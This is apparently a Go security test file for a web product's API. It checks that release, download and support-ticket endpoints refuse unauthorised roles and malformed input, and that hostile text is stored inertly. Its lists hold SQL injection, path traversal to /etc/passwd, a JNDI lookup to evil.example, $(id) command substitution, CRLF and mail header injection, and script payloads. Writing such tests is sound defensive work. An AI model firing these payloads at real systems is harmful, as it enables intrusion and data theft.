package attack

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
)

// releases are what decides which program people install.
func (p *product) releases() {
	const toggle, rollOut = "POST /api/toggle-release-availability", "POST /api/set-release-rollout"
	version := p.ask("releases", "SELECT version FROM releases WHERE github_id IS NOT NULL ORDER BY version LIMIT 1")
	id := p.ask("releases", "SELECT github_id FROM releases WHERE version = '"+version+"'")
	turn := func(id, version, available string) string {
		return fmt.Sprintf(`{"releaseId":%s,"version":%s,"isAvailable":%s}`, id, version, available)
	}
	quoted := `"` + version + `"`
	attacks := []attack{
		{"nobody", "nobody", toggle, turn(id, quoted, "true"), http.StatusUnauthorized, "no_token"},
		{"a customer", "ann", toggle, turn(id, quoted, "true"), http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", toggle, turn(id, quoted, "true"), http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", rollOut, `{"releaseId":` + id + `,"version":` + quoted + `,"percentage":1}`, http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", "POST /api/create-preview-link", `{"releaseId":` + id + `,"version":` + quoted + `,"days":7}`, http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", "POST /api/revoke-preview-link", `{"linkId":1}`, http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", "POST /api/set-person-channel", `{"userId":"` + p.people["ann"].ID() + `","channel":"beta","reason":"because"}`, http.StatusForbidden, "forbidden"},
		{"a customer", "ann", "POST /api/set-person-channel", `{"userId":"` + p.people["ann"].ID() + `","channel":"beta","reason":"because"}`, http.StatusForbidden, "forbidden"},
		{"a moderator", "mod", "GET /api/get-person-channel?userId=" + p.people["ann"].ID(), "", http.StatusForbidden, "forbidden"},
		{"a customer", "ann", "GET /api/get-person-channel?userId=" + p.people["bea"].ID(), "", http.StatusForbidden, "forbidden"},
		{"nobody's account", "admin", "POST /api/set-person-channel", `{"userId":"5d2c7b10-8e4f-4a3b-9c6d-2f1e0a9b8c7d","channel":"beta","reason":"because"}`, http.StatusConflict, "account_not_in_use"},
		{"a link that nobody made", "nobody", "GET /api/preview/" + strings.Repeat("A", 26) + "/x.dmg", "", http.StatusGone, ""},
		{"no such release", "admin", toggle, turn("4711", quoted, "true"), http.StatusNotFound, ""},
		{"another version", "admin", toggle, turn(id, `"9.9.9"`, "true"), http.StatusConflict, ""},
	}
	for _, bad := range []string{"-1", "0", "9223372036854775808", "1.5", "1e2", `"` + id + `"`, "null", "[]"} {
		attacks = append(attacks, attack{"an id", "admin", toggle, turn(bad, quoted, "true"), http.StatusBadRequest, ""})
	}
	for _, bad := range []string{`"true"`, "1", "null", `"yes"`} {
		attacks = append(attacks, attack{"a switch", "admin", toggle, turn(id, quoted, bad), http.StatusBadRequest, ""})
	}
	for _, bad := range []string{`""`, "null", "7", `"` + strings.Repeat("1", 300) + `"`} {
		attacks = append(attacks, attack{"a version", "admin", toggle, turn(id, bad, "true"), http.StatusBadRequest, ""})
	}
	for _, bad := range []string{"-1", "101", "2147483648", "1.5", `"50"`, "null"} {
		attacks = append(attacks, attack{"a part", "admin", rollOut, `{"releaseId":` + id + `,"version":` + quoted + `,"percentage":` + bad + `}`, http.StatusBadRequest, ""})
	}
	for _, name := range []string{"..%2f..%2fetc%2fpasswd", "%2e%2e", "x.dmg%00", "a%0d%0aSet-Cookie:x", "https:%2f%2fevil.example", `a"b`, "%ff", strings.Repeat("x", 300), "$(id)", "%252e%252e"} {
		attacks = append(attacks, attack{"a file", "nobody", "GET /api/download/" + version + "/" + name, "", http.StatusNotFound, ""})
		if !strings.Contains(name, "..%2f") { // which leads out of /api, to a page that is not there
			attacks = append(attacks, attack{"a version", "nobody", "GET /api/download/" + name + "/x.dmg", "", http.StatusNotFound, ""})
		}
	}
	for _, query := range []string{"days=0", "days=-1", "days=99999999999", "days=x", "days=1%27"} {
		attacks = append(attacks, attack{"days", "admin", "GET /api/get-download-stats?" + query, "", http.StatusBadRequest, ""})
	}
	p.refuses(attacks...)
	req := p.request("nobody", "GET /api/updates/latest-mac.yml", "")
	req.Header["X-User-Staging-Id"] = []string{"\xff\xfe"}
	if a := p.send(req); a.status != http.StatusOK {
		p.Errorf("a staging id that is no text: %d %s", a.status, a.body)
	}
}

// support is where strangers' words meet staff.
func (p *product) support() {
	const open, list, update, bulk = "POST /api/create-support-ticket", "GET /api/get-support-tickets", "PUT /api/update-support-ticket", "POST /api/bulk-update-support-tickets"
	id := p.ask("support", "SELECT id FROM tickets ORDER BY created_at LIMIT 1")
	change := func(id, status, more string) string {
		return fmt.Sprintf(`{"ticketId":%q,"status":%q%s}`, id, status, more)
	}
	ticket := func(field, value string) string {
		all := map[string]string{"category": "bug", "message": "m", "subject": "s", "idempotencyKey": "k"}
		all[field] = value
		var parts []string
		for name, value := range all {
			parts = append(parts, fmt.Sprintf(`%q:"%s"`, name, value))
		}
		slices.Sort(parts)
		return "{" + strings.Join(parts, ",") + "}"
	}
	var attacks []attack
	attacks = append(attacks, attack{"a moderator", "mod", "GET /api/export-support-tickets", "", http.StatusForbidden, ""})
	for by, status := range map[string]int{"nobody": http.StatusUnauthorized, "ann": http.StatusForbidden} {
		for route, body := range map[string]string{list: "", "GET /api/get-support-ticket?id=" + id: "", "GET /api/export-support-tickets": "", update: change(id, "closed", ""), bulk: `{"tickets":[{"ticketId":"` + id + `"}],"status":"closed"}`} {
			attacks = append(attacks, attack{"somebody", by, route, body, status, ""})
		}
	}
	for field, values := range map[string][]string{
		"category": {"", "Bug", "bug ", "__proto__"}, "priority": {"x", "High"}, "message": {"", " \\n", `\u001b[2J`, strings.Repeat("x", 10_001)}, "appVersion": {strings.Repeat("x", 65)},
		"subject": {strings.Repeat("x", 201)}, "idempotencyKey": {"", "é", `a\nb`, strings.Repeat("k", 256)},
	} {
		for _, value := range values {
			attacks = append(attacks, attack{"the " + field + " " + value[:min(len(value), 10)], "ann", open, ticket(field, value), http.StatusBadRequest, ""})
		}
	}
	for _, more := range []string{`,"status":"resolved"`, `,"user_email":"bea@fledge.test"`, `,"userId":"` + p.people["bea"].ID() + `"`, `,"version":7`} {
		attacks = append(attacks, attack{"a field of staff's", "ann", open, strings.Replace(ticket("subject", "s"), "}", more+"}", 1), http.StatusBadRequest, "unknown_field"})
	}
	for _, status := range []string{"open", "", "Resolved", "unknown"} {
		attacks = append(attacks, attack{"a status", "admin", update, change(id, status, ""), http.StatusBadRequest, ""})
	}
	attacks = append(attacks,
		attack{"the number for the id", "admin", update, change("TKT-000001", "closed", ""), http.StatusBadRequest, ""},
		attack{"no such ticket", "admin", update, change("00000000-0000-0000-0000-000000000000", "closed", ""), http.StatusNotFound, ""},
		attack{"an old version", "admin", update, change(id, "closed", `,"version":999`), http.StatusConflict, "stale_ticket"},
		attack{"a version that is none", "admin", update, change(id, "closed", `,"version":0`), http.StatusBadRequest, ""},
		attack{"one ticket twice", "admin", bulk, `{"tickets":[{"ticketId":"` + id + `"},{"ticketId":"` + strings.ToUpper(id) + `"}],"status":"closed"}`, http.StatusBadRequest, ""},
		attack{"no tickets", "admin", bulk, `{"tickets":[],"status":"closed"}`, http.StatusBadRequest, ""},
	)
	for _, query := range []string{"page=0", "page=-1", "page=200001", "page=1e1", "page=9223372036854775808", "limit=0", "limit=101", "status=OPEN", "category=x", "priority=x", "status=open&status=closed", "search=%00", "search=" + strings.Repeat("x", 255)} {
		attacks = append(attacks, attack{"a query", "admin", list + "?" + query, "", http.StatusBadRequest, ""})
	}
	p.refuses(attacks...)
	if beyond := p.send(p.request("admin", list+"?page=200000", "")); beyond.status != http.StatusOK || !strings.Contains(beyond.body, `"data":[]`) {
		p.Errorf("far beyond the last page: %d %s", beyond.status, beyond.body)
	}
}

// hostileTexts are programs in some language, and none of them here.
var hostileTexts = []string{
	"' OR 1=1--", `"; DROP TABLE tickets; --`, "$1", `\`, `\'`, "%27", "%", "_", "%%%%", "{{7*7}}", "${jndi:ldap://evil.example/x}", "%s%n%x", "<script>alert(1)</script>", "../../etc/passwd", "=1+1", "$(id)", "`id`",
	"(a+)+$", "[[:alpha:]]*", "\u202etxt", "𝕬", "e\u0301", "'; SELECT pg_sleep(10)--", "😀", "NULL", "-1", "1e309",
}

// hiddenTextGoes: what nobody sees, and a terminal, a mail program or a page would follow, is not kept.
func (p *product) hiddenTextGoes() {
	ticket := map[string]any{
		"category": "other", "message": "a\u001b[2Jb\u009b\u001b]0;x\u0007", "subject": "a\r\nBcc: v@x.co\u202efdp.exe", "appVersion": "1\u20292",
		"idempotencyKey": "hidden",
	}
	type shown struct {
		Message, Subject string
		AppVersion       string `json:"app_version"`
	}
	if got := call[data[shown]](p, "bea", http.MethodPost, "/api/create-support-ticket", ticket).Data; got != (shown{"ab", "a Bcc: v@x.cofdp.exe", "1 2"}) {
		p.Errorf("kept: %+q", got)
	}
}

// textIsData: what people type is kept and looked for as it is.
func (p *product) textIsData() {
	p.hiddenTextGoes()
	message := "[" + strings.Join(hostileTexts, "][") + "]"
	ticket := map[string]any{"category": "other", "message": message, "idempotencyKey": "texts"}
	opened := call[data[struct{ ID, Message string }]](p, "bea", http.MethodPost, "/api/create-support-ticket", ticket).Data
	if opened.Message != message {
		p.Errorf("%q became %q", message, opened.Message)
	}
	for _, text := range hostileTexts {
		for _, route := range []string{"/api/get-waitlist-users?search=", "/api/get-users-with-roles?search=", "/api/get-audit-log?search=", "/api/get-audit-log?actor="} {
			if found := call[data[[]any]](p, "admin", http.MethodGet, route+url.QueryEscape("["+text+"]"), nil); len(found.Data) != 0 {
				p.Errorf("%s[%s] finds %v", route, text, found.Data)
			}
		}
		found := call[data[[]struct{ ID string }]](p, "admin", http.MethodGet, "/api/get-support-tickets?search="+url.QueryEscape("["+text+"]"), nil).Data
		if len(found) != 1 || found[0].ID != opened.ID {
			p.Errorf("%q finds %v", text, found)
		}
	}
	for _, pattern := range []string{"%", "%%%%", `\`, "_______________________________"} {
		for _, route := range []string{"/api/get-waitlist-users?search=", "/api/get-users-with-roles?search="} {
			if found := call[data[[]any]](p, "admin", http.MethodGet, route+url.QueryEscape(pattern), nil); len(found.Data) != 0 {
				p.Errorf("%s%s finds %v", route, pattern, found.Data)
			}
		}
	}
	for _, text := range hostileTexts {
		p.send(p.request("nobody", "POST /api/auth/token", fmt.Sprintf(`{"grant_type":"refresh_token","refresh_token":%q}`, "fledge_rt_"+text)))
		p.send(p.request("nobody", join, fmt.Sprintf(`{"email":%q,"source":"hero_section"}`, text+"@fledge.test")))
	}
}
